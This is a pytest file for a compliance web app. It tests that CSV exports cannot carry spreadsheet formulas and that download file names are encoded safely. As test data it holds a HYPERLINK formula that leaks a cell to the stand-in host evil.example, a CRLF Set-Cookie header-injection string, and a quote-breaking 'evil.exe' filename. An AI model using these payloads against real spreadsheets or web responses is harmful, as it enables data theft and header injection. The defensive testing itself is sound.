"""Downloads (issue 17): CSV cells that cannot be formulas in a spreadsheet, and file
names a browser saves exactly as meant (RFC 6266), all through the one encoder."""

from __future__ import annotations

import ast
import csv
import io
import re
from urllib.parse import unquote

import pytest

from compliance import PROJECT_ROOT
from compliance.tables import Participant, Recipient
from compliance.web.common.downloads import attachment
from tests.support.demo import secure_link


async def test_csv_cells_cannot_be_formulas(client, demo) -> None:
    """A recipient named ``=HYPERLINK(...)`` reached the disclosures CSV as a formula.
    Each cell starting with = + - @, a tab or a carriage return is now text (OWASP)."""
    await secure_link(client, demo)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    await Recipient.update({Recipient.name: evil}).where(
        Recipient.id == demo["recipients"]["Dana Whitfield"]
    )
    for name in (evil, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        await Recipient.update({Recipient.name: name, Recipient.organisation: ""}).where(
            Recipient.id == demo["recipients"]["Dana Whitfield"]
        )
        answer = await client.get(f"/participants/{demo['people']['RB-1001']}/disclosures.csv")
        assert answer.status_code == 200
        rows = list(csv.reader(io.StringIO(answer.text)))
        cells = [cell for row in rows[1:] for cell in row]
        assert "'" + name in cells, (name, rows)
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], rows


DISPOSITION = re.compile(
    r"""attachment; filename="([ -!#-\[\]-~]*)"; filename\*=UTF-8''([A-Za-z0-9%._~-]+)"""
)


def _download_name(header: str) -> str:
    """The name a browser saves under, as RFC 6266 says: the header must be exactly an
    attachment with a plain quoted fallback and ``filename*``, which wins."""
    parsed = DISPOSITION.fullmatch(header)
    assert parsed, header
    return unquote(parsed.group(2), errors="strict")


@pytest.mark.parametrize(
    "name",
    ['R"B; filename=evil.exe', "RB\\1001", "Zoë-1001", "RB\r\nSet-Cookie: x=1", "RB 1/2"],
)
def test_file_names_are_encoded_as_rfc_6266_says(name: str) -> None:
    """One encoder: an ASCII fallback with nothing that ends the quoted string, and the
    exact name, UTF-8 and percent-encoded, in ``filename*``."""
    header = attachment(f"disclosures-{name}.csv")
    assert _download_name(header) == f"disclosures-{name}.csv".replace("\r\n", "")


async def test_a_client_id_with_a_quote_downloads_under_its_own_name(client, demo) -> None:
    pid = demo["people"]["RB-1001"]
    await Participant.update({Participant.client_id: 'RB"1001;x=y'}).where(Participant.id == pid)
    answer = await client.get(f"/participants/{pid}/disclosures.csv")
    assert answer.status_code == 200
    assert _download_name(answer.headers["content-disposition"]) == 'disclosures-RB"1001;x=y.csv'


def test_every_download_name_goes_through_the_one_encoder() -> None:
    """No module builds a Content-Disposition by hand: a new download cannot skip it."""
    hand_made = []
    for path in sorted((PROJECT_ROOT / "compliance").rglob("*.py")):
        if path.name == "downloads.py" or "migrations" in path.parts:
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Constant) and isinstance(node.value, str):
                if "filename=" in node.value or "attachment;" in node.value:
                    hand_made.append(f"{path.relative_to(PROJECT_ROOT)}:{node.lineno}")
    assert not hand_made, hand_made
